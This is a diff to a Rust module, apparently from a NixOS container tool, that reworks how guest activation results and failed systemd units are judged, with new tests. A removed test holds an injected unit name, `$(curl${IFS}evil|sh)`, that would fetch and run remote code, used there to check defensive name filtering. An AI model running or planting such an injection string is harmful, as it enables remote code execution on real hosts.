@@ -5,6 +5,7 @@ use std::sync::mpsc;
 use std::time::{Duration, Instant};
 
 use crate::error::{Error, FailedActivation};
+use crate::guest_units;
 use crate::host::Host;
 use crate::install;
 use crate::name::ContainerName;
@@ -15,83 +16,163 @@ use crate::worker::{Answer, AttachCommand, Exit, Request, Stdio};
 /// In the guest: the profile's system, whichever generation that is.
 const SWITCH: &str = "/init/profile/container/bin/switch-to-configuration";
 
+/// How nix/guest.nix begins the line with the status of the activation script, which it prints where [`ASKED`] is set.
+const REPORT: &str = "nixcloud-container: the activation script ended with ";
+
+/// The variable that asks for [`REPORT`].
+const ASKED: &str = "NIXCLOUD_CONTAINER_REPORT";
+
+/// How NixOS says that a part of its activation script failed.
+const SNIPPET_FAILED: &str = "Activation script snippet '";
+
+/// A guest whose systemd does not answer within this is switched without a comparison.
+const UNITS_LIMIT: Duration = Duration::from_secs(5);
+
 /// After the switch has ended, how long its last lines may take. A background child may hold the pipe for ever.
 const LAST_LINES: Duration = Duration::from_millis(200);
 
 /// A line of a guest is shown, not stored: what is longer is cut.
 const LONGEST_LINE: u64 = 64 * 1024;
 
-/// More failed units than this help nobody.
-const MOST_UNITS: usize = 64;
+/// What a switch of the running guest came to.
+#[derive(Debug, Default)]
+pub(crate) struct Outcome {
+    /// A failed activation, which is not an error of ours.
+    pub(crate) failed: Option<FailedActivation>,
+    /// Units that had failed before the switch and fail after it.
+    pub(crate) still: Vec<String>,
+}
 
 enum Said {
     Line(String),
     Ended(Result<Exit, Error>),
 }
 
-/// Switches the running guest. `Ok(None)` is success; a failed activation is not an error of ours.
+/// The units that fail in the running guest; `None` where nobody answers for them: no systemd, or one that hangs.
+pub(crate) fn failed_units(host: &Host, name: &ContainerName, cancel: &Cancel) -> Option<Vec<String>> {
+    let mut units = Vec::new();
+    let exit = run(host, name, list_failed(), UNITS_LIMIT, cancel, &mut |line| {
+        units.extend(guest_units::listed(&line));
+        units.truncate(guest_units::MOST_LISTED);
+    });
+    let known = matches!(exit, Ok(Exit::Code(0)));
+    tracing::debug!(%name, ?exit, ?units, "failed units before the switch");
+    known.then_some(units)
+}
+
+/// Switches the running guest. Units that had failed `before` are not blamed on what it is switched to.
 pub(crate) fn switch(
     host: &Host,
     name: &ContainerName,
+    before: Option<&[String]>,
     observer: &mut dyn Observer,
     cancel: &Cancel,
-) -> Result<Option<FailedActivation>, Error> {
+) -> Result<Outcome, Error> {
     observer.event(Event::Phase(Progress::Activate));
     let begin = Instant::now();
-    let mut failed = Vec::new();
-    let exit = run(host, name, cancel, &mut |line| {
-        let about = units(&line);
+    let mut heard = Heard { reports: reports(host, name), ..Heard::default() };
+    let limit = host.config.timeouts.activate();
+    let exit = run(host, name, command(), limit, cancel, &mut |line| {
+        if heard.about_activation(&line) {
+            return;
+        }
+        let about = guest_units::changed(&line);
         observer.event(Event::Activation { line });
         let Some((change, names)) = about else { return };
         if change == UnitChange::Failed {
-            failed.extend(names.iter().take(MOST_UNITS.saturating_sub(failed.len())).cloned());
+            let (old, new) =
+                names.into_iter().partition(|unit| before.is_some_and(|before| before.contains(unit)));
+            heard.failed(UnitChange::StillFailed, old, observer);
+            heard.failed(UnitChange::Failed, new, observer);
+        } else {
+            observer.event(Event::Units { change, names: guest_units::cut(names) });
         }
-        observer.event(Event::Units { change, names });
     })?;
     let took = begin.elapsed();
-    tracing::debug!(%name, ?exit, ?took, "switch-to-configuration ended");
-    Ok(match exit {
-        Exit::Code(0) => {
-            observer.event(Event::Done { phase: Progress::Activate, took });
-            None
+    tracing::debug!(%name, ?exit, ?heard, ?took, "switch-to-configuration ended");
+    let failed = heard.verdict(exit);
+    if failed.is_none() {
+        observer.event(Event::Done { phase: Progress::Activate, took });
+    }
+    Ok(Outcome { failed, still: guest_units::cut(heard.still) })
+}
+
+/// What a switch said.
+#[derive(Debug, Default)]
+struct Heard {
+    /// Whether this generation says how its activation script ended.
+    reports: bool,
+    /// How it ended, as it says.
+    activated: Option<bool>,
+    /// A part of the activation script failed, or systemd did not load its units, as others said.
+    complaint: Option<i32>,
+    failed: Vec<String>,
+    still: Vec<String>,
+}
+
+impl Heard {
+    /// Whether this is the line that is ours; others are only listened to.
+    fn about_activation(&mut self, line: &str) -> bool {
+        if let Some(status) = line.strip_prefix(REPORT) {
+            self.activated = Some(status.trim() == "0");
+            return true;
         }
-        Exit::Code(4) => Some(FailedActivation::UnitsFailed { units: failed }),
-        Exit::Code(100) => Some(FailedActivation::NeedsRestart),
-        Exit::Signal(signal) => Some(FailedActivation::Killed { signal }),
-        other => Some(FailedActivation::Failed { code: other.code() }),
-    })
+        if line.starts_with(SNIPPET_FAILED) {
+            self.complaint = Some(2);
+        } else if line.starts_with("Failed to reload daemon: ") {
+            self.complaint = Some(3);
+        }
+        false
+    }
+
+    fn failed(&mut self, change: UnitChange, names: Vec<String>, observer: &mut dyn Observer) {
+        if names.is_empty() {
+            return;
+        }
+        let all = if change == UnitChange::Failed { &mut self.failed } else { &mut self.still };
+        all.extend(names.iter().cloned());
+        all.truncate(guest_units::MOST_LISTED);
+        observer.event(Event::Units { change, names: guest_units::cut(names) });
+    }
+
+    /// NixOS overwrites the code of a failed activation script, and of a failed reload, with the 4 of a failed unit.
+    fn verdict(&mut self, exit: Exit) -> Option<FailedActivation> {
+        match exit {
+            Exit::Code(0) => None,
+            Exit::Code(4) if self.reports && self.activated != Some(true) => {
+                Some(FailedActivation::Failed { code: 2 })
+            }
+            Exit::Code(4) => match self.complaint {
+                Some(code) => Some(FailedActivation::Failed { code }),
+                None => self.units_failed(),
+            },
+            Exit::Code(100) => Some(FailedActivation::NeedsRestart),
+            Exit::Signal(signal) => Some(FailedActivation::Killed { signal }),
+            other => Some(FailedActivation::Failed { code: other.code() }),
+        }
+    }
+
+    /// A 4 that names only units which had failed before says nothing of this switch. One that names none may.
+    fn units_failed(&mut self) -> Option<FailedActivation> {
+        if self.failed.is_empty() && !self.still.is_empty() {
+            return None;
+        }
+        let units = guest_units::cut(std::mem::take(&mut self.failed));
+        Some(FailedActivation::UnitsFailed { units })
+    }
 }
 
-/// What a line says about units, as NixOS's `switch-to-configuration` says it (both the one in Perl and the one in
-/// Rust): `restarting the following units: a.service, b.service`.
-fn units(line: &str) -> Option<(UnitChange, Vec<String>)> {
-    const FORMS: [(&str, UnitChange); 8] = [
-        ("stopping the following units:", UnitChange::Stopping),
-        ("starting the following units:", UnitChange::Starting),
-        ("NOT restarting the following changed units:", UnitChange::Kept),
-        ("NOT restarting the following units:", UnitChange::Kept),
-        ("restarting the following units:", UnitChange::Restarting),
-        ("reloading the following units:", UnitChange::Reloading),
-        ("the following new units were started:", UnitChange::Started),
-        ("warning: the following units failed:", UnitChange::Failed),
-    ];
-    let line = line.trim();
-    let (names, change) =
-        FORMS.iter().find_map(|(words, change)| line.strip_prefix(words).map(|names| (names, *change)))?;
-    let names: Vec<String> =
-        names.split([',', ' ']).filter(|name| is_unit(name)).take(MOST_UNITS).map(str::to_owned).collect();
-    (!names.is_empty()).then_some((change, names))
-}
-
-/// What systemd lets a unit be called. The guest is hostile, and the name goes into a hint that people copy.
-fn is_unit(name: &str) -> bool {
-    let fits = |byte: u8| byte.is_ascii_alphanumeric() || b":_.@\\-".contains(&byte);
-    !name.is_empty() && name.len() <= 255 && !name.starts_with('-') && name.bytes().all(fits)
+/// Whether the current generation reports how its activation script ended; those of earlier versions do not.
+fn reports(host: &Host, name: &ContainerName) -> bool {
+    let script = host.layout.profile(name).join("container/activate");
+    std::fs::read(script).is_ok_and(|text| text.windows(ASKED.len()).any(|part| part == ASKED.as_bytes()))
 }
 
 fn run(
     host: &Host,
     name: &ContainerName,
+    command: AttachCommand,
+    limit: Duration,
     cancel: &Cancel,
     line: &mut dyn FnMut(String),
 ) -> Result<Exit, Error> {
@@ -102,7 +183,7 @@ fn run(
         stdout: writer.try_clone().map_err(pipe)?.into(),
         stderr: writer.into(),
     };
-    let request = Request::Attach { target: power::target(host, name), command: command() };
+    let request = Request::Attach { target: power::target(host, name), command };
     // Bounded: a guest that prints for ever waits for us, and does not fill the host's memory.
     let (say, said) = mpsc::sync_channel(1024);
     let lines = say.clone();
@@ -110,7 +191,6 @@ fn run(
     std::thread::spawn(move || read_lines(reader, &lines));
     std::thread::scope(|scope| {
         scope.spawn(move || {
-            let limit = host.config.timeouts.activate();
             let ended = match host.worker.call(&request, stdio, Some(limit), cancel) {
                 Ok(Answer::Exited(exit)) => Ok(exit),
                 Ok(other) => Err(install::unexpected(&other)),
@@ -155,16 +235,23 @@ fn read_lines(reader: impl Read, lines: &mpsc::SyncSender<Said>) {
 }
 
 fn command() -> AttachCommand {
-    let variable = |name: &str, value: &str| (name.into(), value.into());
+    // The store is the host's: syncing it is the host's business.
+    in_guest(&[SWITCH, "switch"], &[("NIXOS_NO_SYNC", "1"), (ASKED, "1")])
+}
+
+/// What NixOS looks at when it names failed units: also those that are about to be started again.
+fn list_failed() -> AttachCommand {
+    let states = "--state=failed,auto-restart";
+    in_guest(&["systemctl", "list-units", "--plain", "--no-legend", "--no-pager", "--full", states], &[])
+}
+
+fn in_guest(argv: &[&str], more: &[(&str, &str)]) -> AttachCommand {
+    let path = "/run/current-system/sw/bin:/run/wrappers/bin:/bin";
+    let variables = [("PATH", path), ("HOME", "/root"), ("LC_ALL", "C")];
+    let owned = |(name, value): &(&str, &str)| ((*name).into(), (*value).into());
     AttachCommand {
-        argv: vec![SWITCH.into(), "switch".into()],
-        env: vec![
-            variable("PATH", "/run/current-system/sw/bin:/run/wrappers/bin:/bin"),
-            variable("HOME", "/root"),
-            variable("LC_ALL", "C"),
-            // The store is the host's: syncing it is the host's business.
-            variable("NIXOS_NO_SYNC", "1"),
-        ],
+        argv: argv.iter().map(|word| (*word).into()).collect(),
+        env: variables.iter().chain(more).map(owned).collect(),
         ..AttachCommand::default()
     }
 }
@@ -173,28 +260,59 @@ fn command() -> AttachCommand {
 mod tests {
     use super::*;
 
-    #[test]
-    fn units_are_read_as_nixos_names_them() {
-        let read = |line| units(line).map(|(change, names)| format!("{change}: {}", names.join(" ")));
-        let is = |line, wanted: &str| assert_eq!(read(line).as_deref(), Some(wanted), "{line}");
-        is("stopping the following units: a.service, b.timer", "stopping: a.service b.timer");
-        is("starting the following units: a.service", "starting: a.service");
-        is("restarting the following units: a.service", "restarting: a.service");
-        is("NOT restarting the following changed units: a.service", "not restarting: a.service");
-        is("reloading the following units: dbus.service", "reloading: dbus.service");
-        is("the following new units were started: a.mount", "started: a.mount");
-        is("warning: the following units failed: web.service, db.service", "failed: web.service db.service");
-        assert_eq!(read("activating the configuration..."), None);
-        assert_eq!(read("starting the following units: "), None);
+    fn after(
+        reports: bool,
+        lines: &[&str],
+        before: &[&str],
+        exit: Exit,
+    ) -> (Option<FailedActivation>, Vec<String>) {
+        let mut heard = Heard { reports, ..Heard::default() };
+        for line in lines {
+            heard.about_activation(line);
+            if let Some((UnitChange::Failed, names)) = guest_units::changed(line) {
+                let (old, new) = names.into_iter().partition(|unit| before.contains(&unit.as_str()));
+                heard.failed(UnitChange::StillFailed, old, &mut ());
+                heard.failed(UnitChange::Failed, new, &mut ());
+            }
+        }
+        (heard.verdict(exit), heard.still)
     }
 
     #[test]
-    fn a_hostile_guest_names_only_what_systemd_allows() {
-        let (_, names) =
-            units("warning: the following units failed: x;$(curl${IFS}evil|sh) -rf a@b.service").unwrap();
-        assert_eq!(names, ["a@b.service"]);
-        let many = format!("starting the following units: {}", "a.service, ".repeat(1000));
-        assert_eq!(units(&many).unwrap().1.len(), MOST_UNITS);
+    fn a_four_hides_no_failed_activation() {
+        let failed = |code| Some(FailedActivation::Failed { code });
+        let units = "warning: the following units failed: a.service";
+        let (good, bad) = (format!("{REPORT}0"), format!("{REPORT}1"));
+        let four = Exit::Code(4);
+        assert_eq!(after(true, &[&bad, units], &[], four).0, failed(2));
+        // The script was cut off before its last part.
+        assert_eq!(after(true, &[units], &["a.service"], four).0, failed(2));
+        let blamed = Some(FailedActivation::UnitsFailed { units: vec!["a.service".to_owned()] });
+        assert_eq!(after(true, &[&good, units], &[], four).0, blamed);
+        // Of an earlier version: by NixOS's own words.
+        assert_eq!(
+            after(false, &["Activation script snippet 'x' failed (1)", units], &[], four).0,
+            failed(2)
+        );
+        assert_eq!(after(false, &[units], &[], four).0, blamed);
+        assert_eq!(after(true, &[&good, "Failed to reload daemon: Timeout", units], &[], four).0, failed(3));
+    }
+
+    #[test]
+    fn units_that_had_failed_blame_nobody() {
+        let good = format!("{REPORT}0");
+        let both = "warning: the following units failed: a.service, b.service";
+        let four = Exit::Code(4);
+        let (failed, still) = after(true, &[&good, both], &["a.service", "b.service"], four);
+        assert_eq!((failed, still.len()), (None, 2));
+        let (failed, still) = after(true, &[&good, both], &["a.service"], four);
+        assert_eq!(failed, Some(FailedActivation::UnitsFailed { units: vec!["b.service".to_owned()] }));
+        assert_eq!(still, ["a.service"]);
+        // What failed is not named: something did.
+        assert_eq!(
+            after(true, &[&good], &["a.service"], four).0,
+            Some(FailedActivation::UnitsFailed { units: Vec::new() })
+        );
     }
 
     #[test]
